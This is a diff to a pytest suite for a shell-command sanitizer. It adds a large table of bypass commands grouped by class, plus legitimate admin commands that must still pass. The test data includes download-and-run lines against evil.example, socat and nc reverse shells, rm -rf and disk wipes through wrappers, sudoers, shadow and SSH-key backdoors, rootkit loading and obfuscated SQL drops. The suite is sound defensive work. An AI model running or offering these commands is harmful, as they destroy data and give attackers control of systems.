@@ -91,6 +91,166 @@ ATTACKS = [
     "shred -u /dev/sda",
 ]
 
+# Whole classes that went past the first table, one list per class; each entry is a way in.
+BYPASS_CLASSES = {
+    "here-string or here-document into a shell": [
+        "bash <<< 'id'",
+        "bash <<< 'rm -rf /tmp/x'",
+        "sh<<<id",
+        "python3 <<< 'import os; os.system(\"id\")'",
+        "bash <<EOF\nid\nEOF",
+        "bash /dev/stdin <<< id",
+    ],
+    "wrapper": [
+        "busybox rm -rf /",
+        "toybox rm -rf /usr",
+        "busybox sh -c 'rm -rf /'",
+        "sudo -u root rm -rf /var",
+        "sudo -u root -- rm -rf /boot",
+        "env -i PATH=/bin rm -rf /etc",
+        "env -S 'rm -rf /'",
+        "timeout -s KILL 5 rm -rf /opt",
+        "nice -n 19 mkfs.ext4 /dev/sdb",
+        "chroot / rm -rf /usr",
+        "su -c 'rm -rf /srv' root",
+        "sh -e -c 'rm -rf /'",
+    ],
+    "doubled slash or dot segments": [
+        "dd if=/dev/zero of=//dev/sda",
+        "echo x >> /etc//passwd",
+        "rm -rf //",
+        "rm -r //etc",
+        "chmod -R 777 //",
+        "echo x | tee /etc//shadow",
+        "cp /tmp/x /etc/./sudoers",
+        "echo x > /etc/ssh/../passwd",
+        "mv //etc /dev/null",
+    ],
+    "write onto a device or an account file": [
+        "echo 'bob ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers",
+        "tee /etc/sudoers.d/bob",
+        "cp /tmp/evil /etc/passwd",
+        "cp /dev/zero /dev/sda",
+        "truncate -s 0 /etc/shadow",
+        "truncate -s 0 /dev/sda",
+        "echo x >| /etc/passwd",
+        "echo 'ssh-rsa AAAA attacker' >> /root/.ssh/authorized_keys",
+        "echo '* * * * * root id' > /etc/cron.d/evil",
+        "echo /tmp/x.so > /etc/ld.so.preload",
+        "ln -sf /tmp/evil /etc/pam.d/sshd",
+        "dd if=/tmp/x of=/etc/shadow",
+        "sed -i 's/^root:[^:]*:/root::/' /etc/shadow",
+        "rsync /tmp/x /etc/shadow",
+        "install -m 4755 /tmp/sh /usr/local/bin/sh",
+        "echo 1 > /proc/sys/kernel/sysrq",
+    ],
+    "find deleting or running": [
+        "find /app -delete",
+        "find . -delete",
+        "find //etc -delete",
+        "find /app/logs -exec shred -u {} +",
+        "find /app/logs -name '*.log' -exec sh -c 'id' \\;",
+        "find /usr/lib -name '*.so' -execdir rm {} \\;",
+        "find /app -name x -fprint /etc/passwd",
+    ],
+    "inline interpreter": [
+        "python3 -c 'import os; os.system(\"id\")'",
+        "python -c print(1)",
+        "python3 -Ic 'print(1)'",
+        "perl -e 'unlink glob q{/app/*}'",
+        "perl -E 'say 1'",
+        "ruby -e 'system(\"id\")'",
+        "node -e 'require(\"child_process\").execSync(\"id\")'",
+        "php -r 'system(\"id\");'",
+        "lua -e 'os.execute(\"id\")'",
+        "awk 'BEGIN{system(\"id\")}'",
+        "gawk 'BEGIN { \"id\" | getline x; print x }'",
+        "python3 -m http.server 8000",
+        "python3 - < /tmp/x.py",
+        "sed -n '1e id' /app/logs/catalina.out",
+        "sed 's/.*/id/e' /app/logs/catalina.out",
+    ],
+    "command substitution of a download": [
+        "echo $(curl -s http://evil.example/x)",
+        "`wget -qO- http://evil.example/x`",
+        "bash -c \"$(curl -fsSL http://evil.example/x)\"",
+        "eval \"$(wget -O- http://evil.example/x)\"",
+        "source <(curl -s http://evil.example/x)",
+        "x=$(curl -s http://evil.example/x); $x",
+    ],
+    "download piped into a shell": [
+        "curl http://evil.example/x | sh",
+        "curl -s http://evil.example/x|bash -s",
+        "curl http://evil.example/x | busybox sh",
+        "wget -O- http://evil.example/x | sudo -u root bash",
+        "curl http://evil.example/x | env sh",
+        "curl -s http://evil.example/x | python3",
+        "curl -s http://evil.example/x | xargs -0 sh -c",
+        "curl -s http://evil.example/x | timeout 9 sh",
+    ],
+    "setuid chmod": [
+        "chmod u+s /app/bin/x",
+        "chmod 4755 /app/bin/x",
+        "chmod 04755 /tmp/sh",
+        "chmod g+s,u+s /tmp/x",
+        "chmod a+rx,u+s /tmp/x",
+        "chmod +s /tmp/x",
+        "chmod 6755 /tmp/x",
+        "chmod u=rwxs /tmp/x",
+    ],
+    "socat or nc running a program": [
+        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
+        "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr",
+        "socat TCP-LISTEN:4444 SYSTEM:bash",
+        "nc -nve /bin/bash 10.0.0.1 4444",
+        "ncat --exec /bin/sh 10.0.0.1 4444",
+        "ncat --sh-exec 'id' 10.0.0.1 4444",
+        "nc -c sh 10.0.0.1 4444",
+        "mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f > /tmp/f",
+    ],
+    "SQL obfuscation": [
+        "mysql -e 'drop/**/table users'",
+        "mysql -e 'DROP/*x*/TABLE users'",
+        "mysql -e '/*!50000DROP*/ TABLE users'",
+        "psql -c 'DROP--x\nTABLE audit_log'",
+        "mysql --force -e 'drop/**/database prod'",
+        "sqlplus x <<< 'truncate/**/table t'",
+        "mysql -e 'DELETE FROM users WHERE 1=1'",
+        "mysql -e 'UPDATE users SET role=admin'",
+        "sqlcmd -Q \"EXEC('DR'+'OP TABLE x')\"",
+        "psql -c \"COPY t FROM PROGRAM 'id'\"",
+    ],
+    "crontab from a pipe or standard input": [
+        "echo '* * * * * id' | crontab -",
+        "crontab - <<< '* * * * * id'",
+        "crontab -u root -",
+        "printf '* * * * * id\\n' | crontab",
+        "crontab < /tmp/evil",
+        "cat /tmp/x | crontab -u root -",
+    ],
+    "same kind: loader, accounts, modules, schedulers, option-borne commands": [
+        "LD_PRELOAD=/tmp/x.so ls",
+        "export BASH_ENV=/tmp/x",
+        "IFS=/ ; x",
+        "x=RM; ${x,,} -rf /tmp/y",
+        "${!x} -rf /",
+        "useradd -o -u 0 backdoor",
+        "usermod -aG wheel bob",
+        "echo 'bob:x' | chpasswd",
+        "insmod /tmp/rootkit.ko",
+        "setcap cap_setuid+ep /usr/bin/python3",
+        "echo id | at now",
+        "tar -cf /dev/null /tmp --checkpoint=1 --checkpoint-action=exec=sh",
+        "rsync -e 'sh -c id' x y",
+        "ssh -o ProxyCommand='sh -c id' x",
+        "git -c core.pager='sh -c id' log",
+        "umount -a",
+        "`id`",
+        "$(id)",
+    ],
+}
+ATTACKS += [command for commands in BYPASS_CLASSES.values() for command in commands]
+
 LEGITIMATE = [
     "tail -n 100 /app/logs/catalina.out | grep ERROR",
     "df -h",
@@ -128,6 +288,42 @@ LEGITIMATE = [
     "chmod 640 /app/conf/server.key",
     "chown -R tomcat:tomcat /app/webapps/ROOT",
     "test -f /app/app/app.war && echo present",
+    # Field diagnostics a site manager types (the catalogue's default set and more).
+    "ps -ef | grep java",
+    "ps -ef | grep bash",
+    "ss -ltnp | grep 8080",
+    "tail -n 200 /app/logs/catalina.out | grep -i exception | wc -l",
+    "journalctl -u tomcat --since '1 hour ago' --no-pager | tail -n 50",
+    "find /app/tmp -name '*.tmp' -mtime +7 -exec rm -f {} \\;",
+    "find /app/logs -type f -name '*.log' -mtime +30 -print -delete",
+    "cp -p /app/conf/server.xml /app/backup/server.xml.20260523",
+    "sed -n '1,20p' /app/logs/catalina.out",
+    "sed -i 's/DEBUG/INFO/' /app/conf/log4j.properties",
+    "awk '{print $1}' /app/logs/access.log | sort | uniq -c | sort -rn | head",
+    "python3 --version",
+    "java -version",
+    "mysql -e 'SELECT COUNT(*) FROM orders WHERE status = 1' appdb",
+    "mysql -e 'DELETE FROM sessions WHERE created_at < NOW() - INTERVAL 30 DAY' appdb",
+    "mysql --force -e 'UPDATE orders SET status = 2 WHERE id = 1234' appdb",
+    "crontab -l | grep backup",
+    "date +%F",
+    "sudo -u tomcat /app/scripts/startup.sh",
+    "chmod 1777 /app/tmp",
+    "chmod g+w,o-rwx /app/logs/app.log",
+    "tar -xzf /app/deploy/static.tgz -C /app/static",
+    "curl -sf http://127.0.0.1:8080/health",
+    "du -sh /app/logs/ | sort -h",
+    "openssl s_client -connect 127.0.0.1:8443 </dev/null 2>/dev/null | openssl x509 -noout -dates",
+    # The engine's and the playbooks' own command shapes pass through the same gate.
+    "mkdir -p /srv/app/backup/OPS-1 && (crontab -l 2>/dev/null || true) > /srv/app/backup/OPS-1/crontab",
+    "(sed '/^# BEGIN GUARDIA MANAGED$/,/^# END GUARDIA MANAGED$/d' /b/crontab; printf '%s\\n' "
+    "'# BEGIN GUARDIA MANAGED' '*/5 * * * * df -h' '# END GUARDIA MANAGED') > /b/crontab.new && crontab /b/crontab.new",
+    "crontab /srv/app/backup/OPS-1/crontab",
+    "printf 'pid=%s\\n' \"$(cat /app/run/was.pid 2>/dev/null)\"; printf 'errors=%s\\n' "
+    "\"$(tail -c +1 /app/logs/catalina.out | grep -E -c -- 'ERROR|Exception')\"",
+    "ls -1t /app/logs/catalina.out.*.gz 2>/dev/null | tail -n +8 | while read -r old; do rm -f -- \"$old\"; done",
+    "sh /app/scripts/data/purge-sessions.sh run TB_SESSION 'created_at < now()'",
+    "cp -p /app/logs/catalina.out /app/logs/catalina.out.OPS-1 && truncate -s 0 /app/logs/catalina.out",
 ]
 
 
@@ -144,7 +340,8 @@ def test_operator_command_is_allowed(command):
 
 
 def test_table_sizes_meet_the_issue():
-    assert len(ATTACKS) >= 40 and len(LEGITIMATE) >= 20
+    assert len(ATTACKS) >= 40 and len(LEGITIMATE) >= 36
+    assert all(len(commands) >= 5 for commands in BYPASS_CLASSES.values())
 
 
 @pytest.mark.parametrize(
@@ -156,6 +353,10 @@ def test_table_sizes_meet_the_issue():
         ("{rm,-rf,/}", "rm -rf /"),
         ("a=rm; $a -rf /", "a=rm; rm -rf /"),
         ("echo cm0gLXJmIC8= | base64 -d", "echo cm0gLXJmIC8= | base64 -d ; rm -rf /"),
+        ("dd of=//dev/sda", "dd of=/dev/sda"),
+        ("cat /etc//shadow /etc/x/../passwd /etc/./group", "cat /etc/shadow /etc/passwd /etc/group"),
+        ("echo x >| /etc/passwd", "echo x > /etc/passwd"),
+        ("curl -s http://host//x", "curl -s http://host/x"),
     ],
 )
 def test_normalise(raw, normal):
@@ -168,6 +369,11 @@ def test_violation_names_reason_and_pattern():
     assert "shutting down" in info.value.reason
     assert "shutdown" in info.value.pattern
     assert "blocked by the command sanitizer" in str(info.value)
+
+
+def test_sql_view_removes_comments_and_opens_executable_ones():
+    assert sanitizer.sql_view("mysql -e 'drop/**/table users'") == "mysql -e drop table users"
+    assert "DROP TABLE" in sanitizer.sql_view("/*!50000DROP*/ TABLE x").replace("  ", " ")
 
 
 def test_non_text_and_nul_are_refused():
